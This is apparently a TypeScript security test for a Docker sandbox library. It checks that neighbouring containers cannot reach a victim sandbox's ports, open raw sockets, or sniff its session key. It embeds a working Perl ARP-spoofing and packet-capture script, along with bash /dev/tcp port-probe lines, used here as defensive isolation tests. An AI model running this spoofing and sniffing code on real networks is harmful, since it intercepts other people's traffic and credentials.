/**
 * Group neighbours: attackers next to a victim sandbox on one engine (docs/security.md,
 * "DockerRuntime: a container"). The victim is a DockerRuntime sandbox serving its action server
 * (8000) and, started by its agent, listeners on 8001 (VS Code's port), 12000 (an app port) and
 * 60000 (the runtime API's server port). Two attackers sit beside it: a runtime API sandbox started
 * with a `command` (root in its image, the worst neighbour the API makes) and another DockerRuntime
 * sandbox (the sandbox user, as an agent's shell). Each tries what ARP spoofing and sniffing need (a
 * packet socket), reads its own capabilities, connects to every victim port over the bridge and,
 * through the bridge's gateway, to the victim's ports published on 127.0.0.1 and to host services
 * on 127.0.0.1 and on all interfaces, and captures what it can while the owner sends the victim
 * keyed requests. The owner must reach all four ports (the rows are not vacuous); no attacker may
 * reach any of them or read the key. A host service listening on all interfaces is reachable
 * (nothing the library owns can close it): that row reports it.
 */
import { Effect, ManagedRuntime, Option } from "effect"
import { execFile } from "node:child_process"
import { randomBytes } from "node:crypto"
import { connect, createServer, type Server } from "node:net"
import { call, removeContainersNamed, startApiServer } from "../../scripts/runtimeApiProcess.ts"
import { DockerRuntime } from "../../src/docker.ts"
import { IMAGE_NODE } from "../../src/engines/docker/containerSpec.ts"
import { SANDBOX_NETWORK } from "../../src/engines/docker/network.ts"
import { Runtime } from "../../src/index.ts"
import { baseImage } from "./ownerProcess.ts"
import { atLeast, atMost, type GroupContext, report, type Row, sleep, waitFor } from "./rows.ts"

/** The runtime API server of this group names its containers `<PREFIX>-<session>`. */
const PREFIX = "chaos-nb"

/** The victim's ports: its action server, VS Code's, an app port, the runtime API's server port. */
const VICTIM_PORTS = [8000, 8001, 12000, 60000] as const

/** Keyed requests the owner sends the victim while the attackers capture. */
const KEYED_REQUESTS = 20

/**
 * The `docker` CLI's output, asynchronously (the owners' leases are renewed on this event loop, and
 * a loop blocked past their stale time would stop the sandboxes under test); `input` on its stdin.
 */
const docker = (args: ReadonlyArray<string>, input = "") =>
  new Promise<string>((resolve) => {
    const child = execFile("docker", args, { encoding: "latin1", maxBuffer: 64 * 1024 ** 2 }, (_, out) => resolve(out))
    child.stdin?.end(input)
  })

/** Connect to each `host:port` at once (2 s each); one `reached <tag> <target>` or `blocked ...` line each. */
const probes = (tag: string, targets: ReadonlyArray<string>) =>
  targets.map((t) => {
    const [host, port] = t.split(":")
    return `(timeout 2 bash -c 'echo > /dev/tcp/${host}/${port}' 2>/dev/null && echo "reached ${tag} ${t}" || ` +
      `echo "blocked ${tag} ${t}") &`
  }).join("\n") + "\nwait"

/** Packet sockets (what forging ARP and sniffing the bridge need) and raw IP sockets: `opened` or `refused`. */
const RAW_SOCKETS = `perl -e 'print socket(S, 17, 3, 768) ? "opened packet\\n" : "refused packet\\n"'
perl -e 'print socket(S, 2, 3, 1) ? "opened raw-ip\\n" : "refused raw-ip\\n"'`

/**
 * The ARP attack, as a Perl script on stdin (`perl - <victim ip> <gateway ip> <seconds>`): with a
 * packet socket, tell the host (the gateway) again and again that the victim's address is this
 * container's, and write every frame that arrives to /tmp/capture. With NET_RAW this captured the
 * owner's requests to the victim, session key included, on a bridge with inter-container
 * communication off (docs/design-notes.md); without it the socket is refused and nothing is written.
 */
const ARP_CAPTURE = `my ($victim_ip, $gateway_ip, $seconds) = @ARGV;
open(F, ">", "/tmp/capture") or die; binmode F;
socket(S, 17, 3, 768) or exit 0;
chomp(my $ifindex = \`cat /sys/class/net/eth0/ifindex\`);
bind(S, pack("S n i S C C a8", 17, 0x0003, $ifindex, 0, 0, 0, "")) or die "bind: $!";
chomp(my $address = \`cat /sys/class/net/eth0/address\`); $address =~ s/://g;
my $mac = pack("H12", $address);
my ($victim, $gateway) = map { pack("C4", split(/\\./)) } ($victim_ip, $gateway_ip);
my $arp = ("\\xff" x 6) . $mac . "\\x08\\x06" . pack("n n C C n", 1, 0x0800, 6, 4, 1) . $mac . $victim . ("\\0" x 6) . $gateway;
my $end = time + $seconds;
while (time < $end) {
  send(S, $arp, 0);
  my $ready = ""; vec($ready, fileno(S), 1) = 1;
  if (select($ready, undef, undef, 0.1)) { my $frame; recv(S, $frame, 65535, 0); print F $frame }
}
`

/** CAP_NET_ADMIN is bit 12 and CAP_NET_RAW bit 13 of `/proc/<pid>/status`'s masks. */
const NET_BITS = (1n << 12n) | (1n << 13n)

/** Whether a process status shows NET_RAW or NET_ADMIN (effective or bounding), or no `no_new_privs`. */
const overPrivileged = (status: string) => {
  const field = (name: string) => /^(\S+):\s+(\S+)$/m.exec(status.split("\n").find((l) => l.startsWith(name)) ?? "")
  const mask = (name: string) => BigInt(`0x${field(name)?.[2] ?? "ffffffffffffffff"}`)
  return (mask("CapEff") & NET_BITS) !== 0n || (mask("CapBnd") & NET_BITS) !== 0n ||
    field("NoNewPrivs")?.[2] !== "1"
}

/** A host listener counting the connections it accepts. */
const countingServer = async (host: string) => {
  const accepted = { count: 0 }
  const server = createServer((socket) => {
    accepted.count++
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, host, resolve))
  return { server, port: (server.address() as { port: number }).port, accepted }
}

/** Whether the host connects to `host:port` within 2 s. */
const reaches = (host: string, port: number) =>
  new Promise<boolean>((resolve) => {
    const socket = connect({ host, port, timeout: 2_000 })
    socket.once("connect", () => (socket.destroy(), resolve(true)))
    socket.once("timeout", () => (socket.destroy(), resolve(false)))
    socket.once("error", () => resolve(false))
  })

interface Inspected {
  readonly NetworkSettings: {
    readonly Networks: Record<string, { IPAddress: string; Gateway: string }>
    readonly Ports: Record<string, Array<{ HostIp: string; HostPort: string }> | null>
  }
}

const hexId = () => randomBytes(5).toString("hex")

export const neighbourRows = async (_: GroupContext): Promise<ReadonlyArray<Row>> => {
  const image = baseImage()
  const victimSession = `chaos-nb-victim-${hexId()}`
  const userSession = `chaos-nb-user-${hexId()}`
  const victim = ManagedRuntime.make(
    DockerRuntime.layer({ baseImage: image, sessionId: victimSession, appPorts: [12000] })
  )
  const user = ManagedRuntime.make(DockerRuntime.layer({ baseImage: image, sessionId: userSession }))
  const apiKey = randomBytes(16).toString("hex")
  const servers: Array<Server> = []
  let api: Awaited<ReturnType<typeof startApiServer>> | undefined
  try {
    const [rt] = await Promise.all([victim.runPromise(Runtime), user.runPromise(Runtime)])
    api = await startApiServer(["--container-name-prefix", PREFIX], {
      EFFECT_SANDBOX_API_KEY: apiKey,
      SANDBOX_BASE_CONTAINER_IMAGE: image
    })
    const rootSession = `chaos-nb-root-${hexId()}`
    const started = await call(api.base, "POST", "/start", {
      key: apiKey,
      body: { session_id: rootSession, image, command: ["sleep", "infinity"] }
    })
    if (started.status !== 200) throw new Error(`the root neighbour did not start: ${JSON.stringify(started.body)}`)
    const attackers = [`${PREFIX}-${rootSession}`, `effect-sandbox-${userSession}`]

    const listeners =
      `for (const p of [8001, 12000, 60000]) require('net').createServer((s) => s.on('error', () => {}).end('victim')).listen(p)`
    // Started in the background, then waited for from inside (bounded), so the owner's check below measures the network.
    const listening = await victim.runPromise(rt.runCommand(
      `(nohup ${IMAGE_NODE} -e "${listeners}" >/dev/null 2>&1 &); for p in 8001 12000 60000; do ` +
        `timeout 20 bash -c "until (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; do sleep 0.1; done"; done; echo listening`
    ))
    if (!listening.content.endsWith("listening")) throw new Error(`the victim's listeners: ${listening.content}`)
    const victimName = `effect-sandbox-${victimSession}`
    const info = (JSON.parse(await docker(["inspect", victimName])) as Array<Inspected>)[0]!
    const { IPAddress: victimIp, Gateway: gateway } = info.NetworkSettings.Networks[SANDBOX_NETWORK]!
    const ownerReached = async () => (await Promise.all(VICTIM_PORTS.map((p) => reaches(victimIp, p)))).filter(Boolean)
    await waitFor(async () => (await ownerReached()).length === VICTIM_PORTS.length, 10_000, 200)
    const reachedByOwner = (await ownerReached()).length

    const loopback = await countingServer("127.0.0.1")
    const everywhere = await countingServer("0.0.0.0")
    servers.push(loopback.server, everywhere.server)
    const published = Object.values(info.NetworkSettings.Ports).flatMap((b) => b?.map((x) => x.HostPort) ?? [])

    // Each attacker, at once: its privileges, raw sockets, the victim's ports over the bridge, the
    // published and loopback ports through the gateway, and a host service on all interfaces.
    const reports = await Promise.all(attackers.map((attacker) =>
      docker([
        "exec",
        attacker,
        "bash",
        "-c",
        [
          "cat /proc/self/status",
          RAW_SOCKETS,
          probes("bridge", VICTIM_PORTS.map((p) => `${victimIp}:${p}`)),
          probes("gateway", [...published, String(loopback.port)].map((p) => `${gateway}:${p}`)),
          probes("host", [`${gateway}:${everywhere.port}`])
        ].join("\n")
      ])
    ))
    const count = (prefix: string) =>
      reports.reduce((n, out) => n + out.split("\n").filter((l) => l.startsWith(prefix)).length, 0)

    // The key crosses the bridge with each of the owner's requests (on a local engine the client
    // talks to the container's address, over a kept-alive connection) while every attacker tries
    // to take the victim's address and captures what reaches it. A request the attack swallowed
    // times out instead of hanging the group.
    const capturing = attackers.map((attacker) =>
      docker(["exec", "-i", attacker, "perl", "-", victimIp, gateway, "4"], ARP_CAPTURE)
    )
    let keyed = 0
    for (let i = 0; i < KEYED_REQUESTS; i++) {
      // Spread over the capture's 4 s, so that an attack that takes a moment to start still meets most.
      await sleep(150)
      const output = await victim.runPromise(
        rt.runCommand(`echo request-${i}`).pipe(Effect.timeout("5 seconds"), Effect.option)
      )
      if (Option.isSome(output) && output.value.content.includes(`request-${i}`)) keyed++
    }
    await Promise.all(capturing)
    const key = Buffer.from(
      (await docker(["inspect", "--format", "{{index .Config.Labels \"effect-sandbox.session-key\"}}", victimName]))
        .trim()
    )
    if (key.length < 16) throw new Error("cannot read the victim's session key from its label")
    const captures = await Promise.all(attackers.map((attacker) => docker(["exec", attacker, "cat", "/tmp/capture"])))
    const captured = captures.filter((bytes) => Buffer.from(bytes, "latin1").includes(key)).length

    return [
      atMost(
        "neighbours: attackers (root command, sandbox user) with NET_RAW or NET_ADMIN, or without no_new_privs",
        reports.filter(overPrivileged).length,
        "containers",
        0
      ),
      atMost(
        "neighbours: packet and raw IP sockets an attacker opened (ARP forging, sniffing)",
        count("opened"),
        "sockets",
        0
      ),
      atLeast(
        "neighbours: victim ports (8000, 8001, 12000, 60000) the owner reaches over the bridge",
        reachedByOwner,
        "ports",
        VICTIM_PORTS.length
      ),
      atMost(
        "neighbours: connections from an attacker to those ports over the bridge answered",
        count("reached bridge"),
        "connections",
        0
      ),
      atMost(
        "neighbours: connections through the gateway to the victim's published 127.0.0.1 ports and a host 127.0.0.1 service",
        count("reached gateway") + loopback.accepted.count,
        "connections",
        0
      ),
      atLeast(
        "neighbours: keyed requests the owner sent the victim while the attackers captured",
        keyed,
        "requests",
        KEYED_REQUESTS
      ),
      atMost("neighbours: attackers whose capture holds the victim's session key", captured, "attackers", 0),
      report(
        "neighbours: a host service on all interfaces reached through the gateway (open: docs/security.md)",
        everywhere.accepted.count,
        "connections"
      )
    ]
  } finally {
    for (const server of servers) server.close()
    await api?.kill()
    removeContainersNamed(PREFIX)
    await Promise.all([victim.dispose(), user.dispose()])
  }
}
